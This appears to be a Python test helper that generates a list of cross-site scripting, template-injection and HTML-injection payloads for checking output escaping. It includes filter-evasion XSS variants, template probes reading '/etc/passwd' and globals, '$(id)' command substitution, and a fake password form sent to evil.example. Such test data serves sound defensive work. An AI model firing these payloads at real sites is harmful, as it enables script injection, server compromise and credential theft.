"""Texts that are markup, script or template code where a page does not treat them as text."""

from itertools import product

MARK = "pwned"
_CALLS = (f"window.{MARK}=1", "alert(1)", "confirm(1)", "prompt(1)", "print()")
_TAGS = (
    *("<script>{}</script>", "<script>{}//", "</title><script>{}</script>", "</textarea><script>{}</script>"),
    *("<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<math><mi onclick={}>x</mi>"),
    *("<body onload={}>", "<details open ontoggle={}>", "<video><source onerror={}>", "<audio src=x onerror={}>"),
    *("<iframe srcdoc='<script>{}</script>'>", '<iframe src="javascript:{}">', '<object data="javascript:{}">'),
    *('<embed src="javascript:{}">', '<a href="javascript:{}">x</a>', '<form action="javascript:{}"><button>x'),
    *("<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>"),
    *("<marquee onstart={}>", '<base href="javascript:{}//">', "<style onload={}></style>", "<link onerror={} rel=x>"),
    *('" onmouseover="{}" x="', "' onmouseover='{}' x='", '" autofocus onfocus="{}', '" hx-on:load="{}'),
    *(
        '<div hx-get=/tasks hx-trigger=load hx-on:htmx:load="{}">',
        '<b data-x="{{{{ {} }}}}">',
        "--><script>{}</script>",
    ),
    *(
        "<!--<script>{}</script>-->",
        "<![CDATA[<script>{}</script>]]>",
        "<xmp><script>{}</script></xmp>",
        '\\"><script>{}//',
    ),
    *('<noscript><p title="</noscript><img src=x onerror={}>">', "<template><script>{}</script></template>"),
    *(
        "<scr\x00ipt>{}</script>".replace("\x00", "<b>"),
        "&lt;script&gt;{}&lt;/script&gt;",
        "\u003cscript\u003e{}</script>",
    ),
    *(
        "＜script＞{}＜/script＞",
        "javascript:{}",
        "data:text/html,<script>{}</script>",
        'http://a.example/"onclick="{}',
    ),
    *(
        "https://a.example/<svg/onload={}>",
        "[x](javascript:{})",
        '![x](x" onerror="{})',
        "<https://a.example onclick={}>",
    ),
)
_TEMPLATES = (
    *("{{ 7*7 }}", "{% raw %}", "{{ self.__init__.__globals__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor}}"),
    *("{# x #}", "{{ config }}", "{% include '/etc/passwd' %}", "%(x)s", "{0.__class__}", "$(id)", "`id`"),
    *("<style>*{display:none}</style>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<hr>", "<h1>big"),
    *(
        "<form action=//evil.example><input name=password>",
        "<img src=//evil.example/x.png>",
        "<link rel=stylesheet href=//evil.example>",
    ),
    *("<svg><use href=//evil.example#x></svg>", "<base href=//evil.example>", "<dialog open>x", "<marquee>x</marquee>"),
    *(
        "\u202e<b>",
        "\u2028<b>",
        "<b>\u200b",
        "İ<b>",
        "<plaintext>",
        "<!doctype html>",
        "</html>",
        "</li></ul>",
        "</form>",
    ),
)


def payloads(count: int) -> list[str]:
    """That many different texts of at most 200 characters."""
    plain = [tag.format(call) for call, tag in product(_CALLS, _TAGS)]
    upper = [text.replace("<script", "<ScRiPt").replace("onerror", "OnErRoR") for text in plain]
    padded = [f"a{text}b" for text in plain]
    found = dict.fromkeys(text for text in [*_TEMPLATES, *plain, *padded, *upper] if len(text) <= 200)
    return list(found)[:count]
